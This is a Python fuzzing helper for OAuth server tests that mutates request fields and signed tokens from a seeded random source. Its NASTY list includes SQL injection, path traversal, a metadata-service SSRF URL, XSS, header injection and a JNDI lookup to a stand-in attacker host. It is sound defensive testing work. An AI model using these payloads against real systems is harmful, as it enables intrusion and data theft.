"""Requests and signed texts made wrong by chance, from a seed that a failure names.

`PDS_MUTATIONS` sets how many are made; a few thousand if it is not set. `make drill-oauth` makes
many.
"""

import json
import os
import random
from urllib.parse import quote_plus

from tests.support.oauth_client import b64u

MUTATIONS = int(os.environ.get("PDS_MUTATIONS", "2000"))
SEED = int(os.environ.get("PDS_SEED", "0")) or random.SystemRandom().randrange(1, 2**32)

# What parsers of text, of JSON and of URLs stumble over, and what others take for commands.
NASTY = (
    "",
    " ",
    "\x00",
    "\x1f",
    "\n",
    "\r\nX-Injected: 1",
    '"',
    "a\"b'c",
    "\\",
    "%",
    "%00",
    "%zz",
    "+",
    "é",
    "ə",
    "İ",
    "\u202e",
    "\ud800",
    "😀",
    "null",
    "true",
    "-1",
    "0",
    "1e400",
    "9" * 400,
    "NaN",
    "[]",
    "{}",
    "[[[[",
    "[" * 3_000,
    '{"a":' * 500,
    "' OR '1'='1",
    "'; DROP TABLE tokens; --",
    "../../etc/passwd",
    "file:///etc/passwd",
    "http://169.254.169.254/latest",
    "https://evil.example/cb",
    "javascript:alert(1)",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "a" * 300,
    "a" * 9_000,
    "urn:ietf:params:oauth:request_uri:" + "0" * 96,
    "00000000-0000-0000-0000-000000000000",
    "pds_at.AAAA.00000000",
)


def chance(name):
    """Return a source of chance of one test's own; give its seed with `PDS_SEED` to repeat it."""
    return random.Random(f"{SEED}/{name}")  # noqa: S311 - to be repeatable


def mutated_text(draw, text):
    """Return another text than this one, near to it or not near at all."""
    ways = (
        lambda: text[:place] + draw.choice("Aa0-_.=+/ \n\x00é") + text[place + 1 :],
        lambda: text[:place] + text[place + 1 :],
        lambda: text[:place] + draw.choice("Aa0-_.=+/ \n\x00é") + text[place:],
        lambda: text[:place],
        lambda: text[place:],
        lambda: text + text,
        text.swapcase,
        lambda: f"{text}{draw.choice(NASTY)}",
        lambda: f"{draw.choice(NASTY)}{text}",
        lambda: draw.choice(NASTY),
    )
    while True:
        place = draw.randrange(len(text) or 1)
        found = draw.choice(ways)()
        if found != text:
            return found


def encoded(pairs):
    """Return a form's body; text that is no Unicode is sent as the bytes it stands for."""
    return "&".join(
        f"{quote_plus(name, errors='surrogatepass')}={quote_plus(text, errors='surrogatepass')}"
        for name, text in pairs
    )


def segment(value):
    """Return one segment of a JWS: a JSON value, or raw bytes."""
    raw = value if isinstance(value, bytes) else json.dumps(value).encode()
    return b64u(raw)


JUNK = (None, True, False, 0, -1, 1.5, 10**40, [], {}, [[]], [None], {"a": {}}, *NASTY)


def mutated_member(draw, members):
    """Return an object with one member left out, renamed, added, or made junk."""
    name = draw.choice(sorted(members))
    rest = {other: value for other, value in members.items() if other != name}
    match draw.randrange(4):
        case 0:
            return rest
        case 1:
            return {**rest, mutated_text(draw, name): members[name]}
        case 2:
            return {**members, draw.choice(NASTY): draw.choice(JUNK)}
    junk = draw.choice(JUNK)
    if isinstance(members[name], list) and draw.randrange(2):
        junk = [*members[name], junk]
    return {**rest, name: junk}
